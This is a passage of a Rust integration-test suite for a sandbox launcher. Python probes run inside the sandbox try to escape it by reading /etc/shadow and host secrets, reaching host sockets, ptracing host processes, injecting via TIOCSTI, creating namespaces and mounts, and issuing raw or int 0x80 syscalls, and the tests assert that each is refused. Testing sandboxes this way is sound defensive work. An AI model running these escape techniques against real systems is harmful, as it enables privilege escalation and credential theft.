//! Integration tests of `zt-aas run`: each starts the real binary on a real sandboxed process that attempts
//! an escape (DESIGN.md "Escape routes", issue 2 "Tests") and asserts the precise refusal, so that removing
//! the layer makes the test fail; the positive side checks that ordinary work really works.
//!
//! Run with `cargo test --features test-utils --test sandbox`. Every run is bounded by a timeout and every
//! process a test starts is stopped by pid. Syscall-level attacks use /usr/bin/python3 (ctypes) inside.

mod common;

use std::collections::HashMap;
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use common::{is_root, show as describe, text, ZT as BIN};

/// Upper bound of one sandboxed run (debug build, two shared cores, tests in parallel).
const RUN_TIMEOUT: Duration = Duration::from_secs(90);

const EPERM: i64 = libc::EPERM as i64;
const ENOENT: i64 = libc::ENOENT as i64;
const EAFNOSUPPORT: i64 = libc::EAFNOSUPPORT as i64;

// ---------------------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------------------

/// Who starts `zt-aas run`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum User {
    /// The test's own user.
    Caller,
    /// uid/gid 65534 through `setpriv` when the test runs as root (else the caller: already unprivileged).
    Nobody,
}

/// A unique token for names (markers, abstract sockets).
fn unique(tag: &str) -> String {
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!(
        "zt-{tag}-{}-{nanos}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    )
}

/// A host temp dir under /tmp holding the workspace (`ws`) and the state dir (XDG_STATE_HOME).
struct Ctx {
    root: tempfile::TempDir,
    ws: PathBuf,
    user: User,
}

impl Ctx {
    fn new() -> Ctx {
        Ctx::as_user(User::Caller)
    }

    fn as_user(user: User) -> Ctx {
        let root = tempfile::Builder::new()
            .prefix("zt-aas-test.")
            .tempdir_in("/tmp")
            .unwrap();
        let ws = root.path().join("ws");
        std::fs::create_dir(&ws).unwrap();
        std::fs::create_dir(root.path().join("state")).unwrap();
        let ctx = Ctx { root, ws, user };
        if ctx.setpriv() {
            std::fs::set_permissions(ctx.root.path(), std::fs::Permissions::from_mode(0o755))
                .unwrap();
            for p in [ctx.ws.clone(), ctx.root.path().join("state")] {
                std::os::unix::fs::chown(&p, Some(common::NOBODY), Some(common::NOBODY)).unwrap();
            }
        }
        ctx
    }

    /// Whether runs go through `setpriv` to uid 65534.
    fn setpriv(&self) -> bool {
        self.user == User::Nobody && is_root()
    }

    fn ws_str(&self) -> &str {
        self.ws.to_str().unwrap()
    }

    /// The binary, reachable by the user that runs it (copied to a 0755 dir if its path is not).
    fn binary(&self) -> PathBuf {
        let bin = PathBuf::from(BIN);
        if !self.setpriv() || world_reachable(&bin) {
            return bin;
        }
        let dir = self.root.path().join("bin");
        let copy = dir.join("zt-aas");
        if !copy.exists() {
            return common::copy_binary_into(&dir);
        }
        copy
    }
}

/// Every ancestor searchable by others and the file readable and executable by others.
fn world_reachable(path: &Path) -> bool {
    let file_ok = std::fs::metadata(path)
        .map(|m| m.permissions().mode() & 0o005 == 0o005)
        .unwrap_or(false);
    file_ok
        && path.ancestors().skip(1).all(|a| {
            std::fs::metadata(a)
                .map(|m| m.permissions().mode() & 0o001 != 0)
                .unwrap_or(false)
        })
}

/// Options of one `zt-aas run`.
#[derive(Default)]
struct Opts<'a> {
    /// Extra flags of `run` (before `--`).
    flags: &'a [&'a str],
    /// Extra variables of the caller's environment.
    env: &'a [(&'a str, &'a str)],
    stdin: Option<&'a [u8]>,
    /// A host file to leave open (not close-on-exec) in zt-aas as this descriptor number.
    inherit_fd: Option<(&'a Path, i32)>,
}

/// The `zt-aas run ... -- CMD` command for `ctx` (not started).
fn zt_command(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Command {
    let bin = ctx.binary();
    let mut c = if ctx.setpriv() {
        common::setpriv_nobody(&bin)
    } else {
        Command::new(&bin)
    };
    let state = ctx.root.path().join("state");
    c.args(["run", "--workspace", ctx.ws_str(), "--audit"])
        .arg(state.join("audit.jsonl"));
    c.args(opts.flags).arg("--").args(cmd);
    // Nothing of a test's run may land in the real home's state either.
    c.env("XDG_STATE_HOME", ctx.root.path().join("state"));
    c.envs(opts.env.iter().copied());
    c.current_dir(&ctx.ws);
    c.stdin(if opts.stdin.is_some() {
        Stdio::piped()
    } else {
        Stdio::null()
    });
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    if let Some((path, fd)) = opts.inherit_fd {
        let file = std::fs::File::open(path).unwrap();
        let raw = std::os::fd::IntoRawFd::into_raw_fd(file);
        // SAFETY: dup2 is async-signal-safe; `raw` stays open in the parent for the child's fork (the
        // descriptor leaks in the test process, which is harmless).
        unsafe {
            c.pre_exec(move || {
                if libc::dup2(raw, fd) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    c
}

/// A started `zt-aas run` whose output is collected in the background.
struct Running {
    child: Child,
    out: Option<thread::JoinHandle<Vec<u8>>>,
    err: Option<thread::JoinHandle<Vec<u8>>>,
}

fn spawn(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Running {
    let mut child = zt_command(ctx, opts, cmd).spawn().expect("start zt-aas");
    if let Some(input) = opts.stdin {
        let mut stdin = child.stdin.take().unwrap();
        let input = input.to_vec();
        thread::spawn(move || {
            let _ = stdin.write_all(&input);
        });
    }
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let out = thread::spawn(move || {
        let mut v = Vec::new();
        let _ = so.read_to_end(&mut v);
        v
    });
    let err = thread::spawn(move || {
        let mut v = Vec::new();
        let _ = se.read_to_end(&mut v);
        v
    });
    Running {
        child,
        out: Some(out),
        err: Some(err),
    }
}

impl Running {
    fn pid(&self) -> i32 {
        self.child.id() as i32
    }

    /// Waits for the end (bounded): kills it by pid and fails the test on timeout.
    fn wait(mut self) -> Output {
        let deadline = Instant::now() + RUN_TIMEOUT;
        let status = loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                break status;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                panic!(
                    "zt-aas run (pid {}) did not finish within {RUN_TIMEOUT:?}",
                    self.child.id()
                );
            }
            thread::sleep(Duration::from_millis(20));
        };
        let stdout = self.out.take().unwrap().join().unwrap();
        let stderr = self.err.take().unwrap().join().unwrap();
        Output {
            status,
            stdout,
            stderr,
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        // Only reached without `wait` (a failed assertion while it ran): stop it by pid.
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// Runs `cmd` in the sandbox of `ctx` with `opts` and returns its output.
fn run_with(ctx: &Ctx, opts: &Opts, cmd: &[&str]) -> Output {
    spawn(ctx, opts, cmd).wait()
}

/// Runs a shell script in the sandbox.
fn run_in_sandbox(ctx: &Ctx, script: &str) -> Output {
    run_with(ctx, &Opts::default(), &["sh", "-c", script])
}

/// Helpers available to every Python attack: `err(f, *a)` = 0 or the errno of the OSError; `sc(nr, *a)` =
/// the raw syscall's result, or -errno; `out(k, v)` prints `k=v` for [`kv`].
const PY_PRELUDE: &str = r#"
import ctypes, errno, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def err(f, *a):
    try:
        f(*a)
        return 0
    except OSError as e:
        return e.errno
def sc(nr, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
    return -ctypes.get_errno() if r == -1 else r
def out(k, v):
    print("%s=%s" % (k, v), flush=True)
"#;

/// Runs a Python program (after [`PY_PRELUDE`]) in the sandbox.
fn run_python(ctx: &Ctx, code: &str) -> Output {
    let program = format!("{PY_PRELUDE}\n{code}");
    run_with(ctx, &Opts::default(), &["/usr/bin/python3", "-c", &program])
}

/// Asserts a run exited 0 and returns its stdout.
fn ok_stdout(o: &Output) -> String {
    assert_eq!(o.status.code(), Some(0), "{}", describe(o));
    text(&o.stdout)
}

/// The `key=value` lines of a successful run.
fn kv(o: &Output) -> HashMap<String, String> {
    ok_stdout(o)
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// The integer value of `key` (fails the test if missing).
fn num(map: &HashMap<String, String>, key: &str) -> i64 {
    map.get(key)
        .unwrap_or_else(|| panic!("no `{key}` in {map:?}"))
        .parse()
        .unwrap_or_else(|_| panic!("`{key}` is not a number in {map:?}"))
}

/// Host pids whose command line contains `marker`.
fn host_pids_with(marker: &str) -> Vec<i32> {
    let mut pids = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) {
            if text(&cmdline).contains(marker) {
                pids.push(pid);
            }
        }
    }
    pids
}

/// Kills (by pid) whatever still carries `marker`, so a failing test leaves nothing behind.
fn kill_marked(marker: &str) {
    for pid in host_pids_with(marker) {
        // SAFETY: kill with a pid we found carrying our unique marker.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
}

/// Polls `cond` until true or `timeout` (returns the last value).
fn wait_until(timeout: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    loop {
        if cond() {
            return true;
        }
        if Instant::now() > deadline {
            return false;
        }
        thread::sleep(Duration::from_millis(50));
    }
}

/// `marker` reversed: written so in the programs we pass, so that only the process that rebuilds it (not
/// zt-aas, whose argv holds the program text) carries the marker in its command line.
fn reversed(marker: &str) -> String {
    marker.chars().rev().collect()
}

/// The Python one-liner that becomes `sleep 300` with `marker` as its argv[0].
fn marked_sleep_py(marker: &str) -> String {
    format!(
        "import os; os.execv('/usr/bin/sleep', ['{}'[::-1], '300'])",
        reversed(marker)
    )
}

/// A host process the test owns; killed by pid when dropped.
struct HostProcess(Child);

impl HostProcess {
    fn sleep() -> HostProcess {
        HostProcess(
            Command::new("sleep")
                .arg("60")
                .stdin(Stdio::null())
                .spawn()
                .unwrap(),
        )
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
}

impl Drop for HostProcess {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

const GIT_ENV: &[(&str, &str)] = &[
    ("GIT_AUTHOR_NAME", "Test Author"),
    ("GIT_AUTHOR_EMAIL", "author@example.invalid"),
    ("GIT_COMMITTER_NAME", "Test Committer"),
    ("GIT_COMMITTER_EMAIL", "committer@example.invalid"),
];

// ---------------------------------------------------------------------------------------------------------
// Shared checks (run as the caller and as an unprivileged user)
// ---------------------------------------------------------------------------------------------------------

fn check_host_files_invisible(user: User) {
    let ctx = Ctx::as_user(user);
    // A secret beside the workspace (its parent exists inside, as the mount point's path) and one in a
    // separate host temp dir.
    let beside = ctx.root.path().join("secret.txt");
    std::fs::write(&beside, "beside-secret").unwrap();
    let other = tempfile::Builder::new()
        .prefix("zt-aas-secret.")
        .tempdir_in("/tmp")
        .unwrap();
    let elsewhere = other.path().join("secret.txt");
    std::fs::write(&elsewhere, "elsewhere-secret").unwrap();
    if ctx.setpriv() {
        // Readable by the sandbox's user, so only the sandbox can stand in the way.
        std::fs::set_permissions(other.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        for f in [&beside, &elsewhere] {
            std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
        }
    }
    let o = run_python(
        &ctx,
        &format!(
            r#"
out("beside", err(lambda: open({beside:?}).read()))
out("elsewhere", err(lambda: open({elsewhere:?}).read()))
out("shadow", err(lambda: open("/etc/shadow").read()))
out("root", int(os.path.exists("/root")))
out("home", int(os.path.exists("/home")))
out("run", int(os.path.exists("/run")))
out("var", int(os.path.exists("/var")))
out("passwd", len(open("/etc/passwd").read()) > 0)
out("ssl_private", int(os.path.exists("/etc/ssl/private")))
import ssl
out("ssl_ca", int(ssl.create_default_context().cert_store_stats()["x509_ca"] > 0))
"#,
            beside = beside.to_str().unwrap(),
            elsewhere = elsewhere.to_str().unwrap(),
        ),
    );
    let m = kv(&o);
    assert_eq!(num(&m, "beside"), ENOENT, "{m:?}");
    assert_eq!(num(&m, "elsewhere"), ENOENT, "{m:?}");
    assert_eq!(num(&m, "shadow"), ENOENT, "{m:?}");
    // The host's TLS private keys (/etc/ssl/private: the caller's own uid or group may read them) are not
    // bound; the CA certificates are.
    assert_eq!(num(&m, "ssl_private"), 0, "{m:?}");
    if std::path::Path::new("/etc/ssl/certs/ca-certificates.crt").exists() {
        assert_eq!(num(&m, "ssl_ca"), 1, "{m:?}");
    }
    for gone in ["root", "home", "run", "var"] {
        assert_eq!(num(&m, gone), 0, "/{gone} visible inside: {m:?}");
    }
    assert_eq!(
        m["passwd"], "True",
        "the allowed /etc/passwd must stay readable"
    );
}

fn check_write_outside_workspace_refused(user: User) {
    let ctx = Ctx::as_user(user);
    let name = unique("write");
    let targets: Vec<String> = ["/usr", "/etc", "", "/.zt-aas/bin"]
        .iter()
        .map(|d| format!("{d}/{name}"))
        .collect();
    let o = run_python(
        &ctx,
        &format!(
            r#"
for i, p in enumerate({targets:?}):
    out("new%d" % i, err(lambda: open(p, "w").write("x")))
out("overwrite", err(lambda: open("/usr/bin/true", "r+b").write(b"x")))
out("mkdir", err(os.mkdir, "/etc/{name}.d"))
# The device nodes are the host's inodes, owned by root (the caller, when root): their mode is not the
# agent's to change (tried with the mode they have, so a failure of this test changes nothing).
import stat
out("chmod_dev", err(os.chmod, "/dev/full", stat.S_IMODE(os.stat("/dev/full").st_mode)))
open("/dev/null", "w").write("still a sink")
open("inside.txt", "w").write("written inside")
"#
        ),
    );
    let m = kv(&o);
    let refused = [libc::EROFS as i64, libc::EACCES as i64, EPERM];
    for (i, t) in targets.iter().enumerate() {
        let e = num(&m, &format!("new{i}"));
        assert!(
            refused.contains(&e),
            "creating {t}: errno {e} (expected EROFS/EACCES/EPERM): {m:?}"
        );
        assert!(!Path::new(t).exists(), "{t} appeared on the host");
    }
    assert!(!Path::new(&format!("/usr/{name}")).exists());
    assert!(!Path::new(&format!("/etc/{name}")).exists());
    assert!(!Path::new(&format!("/{name}")).exists());
    for k in ["overwrite", "mkdir", "chmod_dev"] {
        let e = num(&m, k);
        assert!(refused.contains(&e), "{k}: errno {e}: {m:?}");
    }
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join("inside.txt")).unwrap(),
        "written inside"
    );
}

fn check_tcp_to_host_refused(user: User) {
    let ctx = Ctx::as_user(user);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let o = run_python(
        &ctx,
        &format!(
            r#"
def connect(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(addr)
out("tcp4", err(connect, socket.AF_INET, ("127.0.0.1", {port})))
out("tcp6", err(connect, socket.AF_INET6, ("::1", {port})))
out("mptcp", err(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262))
"#
        ),
    );
    let m = kv(&o);
    for k in ["tcp4", "tcp6", "mptcp"] {
        assert_eq!(num(&m, k), EAFNOSUPPORT, "{k}: {m:?}");
    }
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the host listener got a connection: {other:?}"),
    }
}

fn check_status_no_privileges(user: User) {
    let ctx = Ctx::as_user(user);
    let o = run_in_sandbox(&ctx, "cat /proc/self/status");
    let status = ok_stdout(&o);
    let field = |name: &str| -> String {
        status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .unwrap_or_else(|| panic!("no {name} in /proc/self/status:\n{status}"))
            .trim()
            .to_string()
    };
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert_eq!(field(cap), "0000000000000000", "{cap}");
    }
    assert_eq!(field("NoNewPrivs"), "1");
    assert_eq!(field("Seccomp"), "2");
}

fn check_git_commit(user: User) {
    let ctx = Ctx::as_user(user);
    let opts = Opts {
        env: GIT_ENV,
        ..Default::default()
    };
    let o = run_with(
        &ctx,
        &opts,
        &[
            "sh",
            "-c",
            "set -e; git init -q . && echo hello > a.txt && git add a.txt && git commit -q -m first \
             && git log --format='%s|%an|%ce'",
        ],
    );
    assert_eq!(
        ok_stdout(&o),
        "first|Test Author|committer@example.invalid\n",
        "{}",
        describe(&o)
    );
    assert!(ctx.ws.join(".git/HEAD").is_file());
    assert_eq!(
        std::fs::read_to_string(ctx.ws.join("a.txt")).unwrap(),
        "hello\n"
    );
}

fn check_exit_codes(user: User) {
    let ctx = Ctx::as_user(user);
    assert_eq!(run_in_sandbox(&ctx, "exit 42").status.code(), Some(42));
    assert_eq!(run_in_sandbox(&ctx, "exit 0").status.code(), Some(0));
    let killed = run_in_sandbox(&ctx, "kill -9 $$");
    assert_eq!(killed.status.code(), Some(137), "{}", describe(&killed));
    let audit = std::fs::read_to_string(ctx.root.path().join("state/audit.jsonl")).unwrap();
    assert!(
        audit.lines().count() >= 6,
        "three sessions were not recorded in the audit log:\n{audit}"
    );
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: files
// ---------------------------------------------------------------------------------------------------------

#[test]
fn host_files_outside_allowed_paths_are_invisible() {
    check_host_files_invisible(User::Caller);
}

#[test]
fn unprivileged_host_files_outside_allowed_paths_are_invisible() {
    check_host_files_invisible(User::Nobody);
}

#[test]
fn writes_outside_the_workspace_are_refused() {
    check_write_outside_workspace_refused(User::Caller);
}

#[test]
fn unprivileged_writes_outside_the_workspace_are_refused() {
    check_write_outside_workspace_refused(User::Nobody);
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: network and IPC
// ---------------------------------------------------------------------------------------------------------

#[test]
fn tcp_to_a_host_loopback_listener_is_refused() {
    check_tcp_to_host_refused(User::Caller);
}

#[test]
fn unprivileged_tcp_to_a_host_loopback_listener_is_refused() {
    check_tcp_to_host_refused(User::Nobody);
}

#[test]
fn udp_to_a_host_loopback_listener_is_refused() {
    let ctx = Ctx::new();
    let host = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let o = run_python(
        &ctx,
        &format!(
            r#"
def send(fam, addr):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.sendto(b"leak", addr)
out("udp4", err(send, socket.AF_INET, ("127.0.0.1", {port})))
out("udp6", err(send, socket.AF_INET6, ("::1", {port})))
"#
        ),
    );
    let m = kv(&o);
    assert_eq!(num(&m, "udp4"), EAFNOSUPPORT, "{m:?}");
    assert_eq!(num(&m, "udp6"), EAFNOSUPPORT, "{m:?}");
    let mut buf = [0u8; 64];
    match host.recv_from(&mut buf) {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("the host UDP socket received something: {other:?}"),
    }
}

#[test]
fn socket_families_other_than_unix_are_eafnosupport() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        r#"
out("inet", err(socket.socket, socket.AF_INET, socket.SOCK_STREAM))
out("inet_raw", err(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1))
out("inet6", err(socket.socket, socket.AF_INET6, socket.SOCK_DGRAM))
out("netlink", err(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0))
out("packet", err(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0))
r = sc(41, 2, 1, 0)
out("raw_inet", -r if r < 0 else 0)
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
a.send(b"ping")
out("unix", b.recv(4).decode())
"#,
    );
    let m = kv(&o);
    for k in ["inet", "inet_raw", "inet6", "netlink", "packet", "raw_inet"] {
        assert_eq!(num(&m, k), EAFNOSUPPORT, "{k}: {m:?}");
    }
    assert_eq!(m["unix"], "ping");
}

#[test]
fn host_pathname_unix_socket_outside_the_workspace_is_unreachable() {
    let ctx = Ctx::new();
    let dir = tempfile::Builder::new()
        .prefix("zt-aas-sock.")
        .tempdir_in("/tmp")
        .unwrap();
    let stream_path = dir.path().join("stream.sock");
    let dgram_path = dir.path().join("dgram.sock");
    let listener = std::os::unix::net::UnixListener::bind(&stream_path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
    dgram.set_nonblocking(true).unwrap();
    let o = run_python(
        &ctx,
        &format!(
            r#"
def connect(p):
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(p)
def send(p):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"leak", p)
out("stream", err(connect, {s:?}))
out("dgram", err(send, {d:?}))
"#,
            s = stream_path.to_str().unwrap(),
            d = dgram_path.to_str().unwrap(),
        ),
    );
    let m = kv(&o);
    assert_eq!(num(&m, "stream"), ENOENT, "{m:?}");
    assert_eq!(num(&m, "dgram"), ENOENT, "{m:?}");
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
    let mut buf = [0u8; 16];
    assert!(matches!(dgram.recv(&mut buf), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
}

#[test]
fn host_abstract_unix_socket_is_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
    let ctx = Ctx::new();
    let stream_name = unique("abstract-stream");
    let dgram_name = unique("abstract-dgram");
    let listener =
        UnixListener::bind_addr(&SocketAddr::from_abstract_name(stream_name.as_bytes()).unwrap())
            .unwrap();
    listener.set_nonblocking(true).unwrap();
    let dgram =
        UnixDatagram::bind_addr(&SocketAddr::from_abstract_name(dgram_name.as_bytes()).unwrap())
            .unwrap();
    dgram.set_nonblocking(true).unwrap();
    let o = run_python(
        &ctx,
        &format!(
            r#"
def connect(n):
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\0" + n)
def send(n):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"leak", "\0" + n)
out("stream", err(connect, {stream_name:?}))
out("dgram", err(send, {dgram_name:?}))
# An abstract socket of the sandbox's own works (the refusal above is about the host's).
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind("\0inside-{stream_name}")
srv.listen(1)
c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
out("own", err(c.connect, "\0inside-{stream_name}"))
"#
        ),
    );
    let m = kv(&o);
    assert_ne!(
        num(&m, "stream"),
        0,
        "connected to the host's abstract socket: {m:?}"
    );
    assert_ne!(
        num(&m, "dgram"),
        0,
        "sent to the host's abstract socket: {m:?}"
    );
    assert_eq!(num(&m, "own"), 0, "{m:?}");
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
    let mut buf = [0u8; 16];
    assert!(matches!(dgram.recv(&mut buf), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock));
}

// ---------------------------------------------------------------------------------------------------------
// Attacks: processes and syscalls
// ---------------------------------------------------------------------------------------------------------

#[test]
fn host_process_cannot_be_killed_or_traced() {
    let ctx = Ctx::new();
    let mut victim = HostProcess::sleep();
    let pid = victim.0.id();
    let o = run_python(
        &ctx,
        &format!(
            r#"
import signal
out("kill", err(os.kill, {pid}, signal.SIGTERM))
out("ptrace_attach", -sc(101, 16, {pid}, 0, 0))
out("ptrace_seize", -sc(101, 0x4206, {pid}, 0, 0))
out("pidfd_open", -sc(434, {pid}, 0))
"#
        ),
    );
    let m = kv(&o);
    let k = num(&m, "kill");
    assert!(k == libc::ESRCH as i64 || k == EPERM, "kill: {m:?}");
    assert_eq!(num(&m, "ptrace_attach"), EPERM, "{m:?}");
    assert_eq!(num(&m, "ptrace_seize"), EPERM, "{m:?}");
    assert_eq!(num(&m, "pidfd_open"), libc::ESRCH as i64, "{m:?}");
    assert!(victim.alive(), "the host process died");
}

#[test]
fn tiocsti_and_tioclinux_are_eperm_even_with_high_bits() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        r#"
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]
c = ctypes.c_char(b"x")
def ioctl(req):
    ctypes.set_errno(0)
    r = libc.ioctl(0, req, ctypes.byref(c))
    return ctypes.get_errno() if r == -1 else 0
out("tiocsti", ioctl(0x5412))
out("tiocsti_high", ioctl(0x100005412))
out("tioclinux", ioctl(0x541C))
out("tioclinux_high", ioctl(0xdead0000541C))
out("fionread", ioctl(0x541B))
"#,
    );
    let m = kv(&o);
    for k in ["tiocsti", "tiocsti_high", "tioclinux", "tioclinux_high"] {
        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
    }
    // Other ioctls reach the driver (stdin is /dev/null: not a tty).
    assert_eq!(num(&m, "fionread"), libc::ENOTTY as i64, "{m:?}");
}

#[test]
fn nested_namespaces_are_eperm() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        &format!(
            r#"
out("unshare_user", -sc(272, {user}))
out("unshare_mount", -sc(272, {ns}))
out("unshare_net", -sc(272, {net}))
out("setns", -sc(308, 0, 0))
"#,
            user = libc::CLONE_NEWUSER,
            ns = libc::CLONE_NEWNS,
            net = libc::CLONE_NEWNET,
        ),
    );
    let m = kv(&o);
    for k in ["unshare_user", "unshare_mount", "unshare_net", "setns"] {
        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
    }
}

#[test]
fn mount_family_is_eperm() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        r#"
os.mkdir("/tmp/m")
libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
ctypes.set_errno(0)
r = libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None)
out("mount", ctypes.get_errno() if r == -1 else 0)
tmp = ctypes.create_string_buffer(b"/tmp")
out("umount2", -sc(166, ctypes.addressof(tmp), 2))
path = ctypes.create_string_buffer(b"tmpfs")
out("fsopen", -sc(430, ctypes.addressof(path), 0))
dot = ctypes.create_string_buffer(b".")
out("open_tree", -sc(428, -100, ctypes.addressof(dot), 1))
out("chroot", -sc(161, ctypes.addressof(dot)))
"#,
    );
    let m = kv(&o);
    for k in ["mount", "umount2", "fsopen", "open_tree", "chroot"] {
        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
    }
}

#[test]
fn x32_syscall_is_eperm_not_enosys() {
    let ctx = Ctx::new();
    // x32 getpid (0x40000000 | 39): refused explicitly, not left to the kernel's ENOSYS or executed.
    let o = run_python(
        &ctx,
        "out('x32_getpid', -sc(0x40000000 | 39))\nout('x32_write', -sc(0x40000000 | 1, 1, 0, 0))",
    );
    let m = kv(&o);
    assert_eq!(num(&m, "x32_getpid"), EPERM, "{m:?}");
    assert_eq!(num(&m, "x32_write"), EPERM, "{m:?}");
}

#[test]
fn int80_i386_syscall_is_killed_by_sigsys() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        r#"
import mmap
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (i386 getpid); int 0x80; ret
f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
out("before", 1)
out("after", f())
"#,
    );
    assert_eq!(
        o.status.code(),
        Some(128 + libc::SIGSYS),
        "{}",
        describe(&o)
    );
    let stdout = text(&o.stdout);
    assert!(stdout.contains("before=1"), "{}", describe(&o));
    assert!(
        !stdout.contains("after="),
        "the i386 syscall returned: {}",
        describe(&o)
    );
}

#[test]
fn io_uring_setup_is_eperm() {
    let ctx = Ctx::new();
    let o = run_python(
        &ctx,
        r#"
params = ctypes.create_string_buffer(120)
out("io_uring_setup", -sc(425, 8, ctypes.addressof(params)))
out("io_uring_enter", -sc(426, 0, 0, 0, 0, 0, 0))
out("io_uring_register", -sc(427, 0, 0, 0, 0))
"#,
    );
    let m = kv(&o);
    for k in ["io_uring_setup", "io_uring_enter", "io_uring_register"] {
        assert_eq!(num(&m, k), EPERM, "{k}: {m:?}");
    }
}

/// Kernel calls that an unprivileged process reaches without seccomp (each works on the host for uid
/// 65534 on this machine's defaults: keyrings, the LDT, handles, fanotify with FID reports, another view
/// of its own memory or descriptors, user-mode userfaultfd; perf_event_open answers EACCES there).
fn check_kernel_surface_refused(user: User) {
    let ctx = Ctx::as_user(user);
    let o = run_python(
        &ctx,
        r#"
import struct
keep = []
def buf(b, size=None):
    s = ctypes.create_string_buffer(b, size) if size else ctypes.create_string_buffer(b)
    keep.append(s)
    return ctypes.addressof(s)
pid = os.getpid()
out("modify_ldt", -sc(154, 0, buf(b"", 64), 64))
out("keyctl", -sc(250, 0, -2, 1))
out("add_key", -sc(248, buf(b"user"), buf(b"zt-aas"), buf(b"x"), 1, -2))
out("kcmp", -sc(312, pid, pid, 0, 0, 0))
out("name_to_handle_at", -sc(303, -100, buf(b"."), buf(b"\x80\x00\x00\x00", 136), buf(b"", 4), 0))
out("fanotify_init", -sc(300, 0x200, 0))
src, dst = buf(b"abcdefgh"), buf(b"", 8)
out("process_vm_readv", -sc(310, pid, buf(struct.pack("<QQ", dst, 8)), 1, buf(struct.pack("<QQ", src, 8)), 1, 0))
out("pidfd_getfd", -sc(438, sc(434, pid, 0), 0, 0))
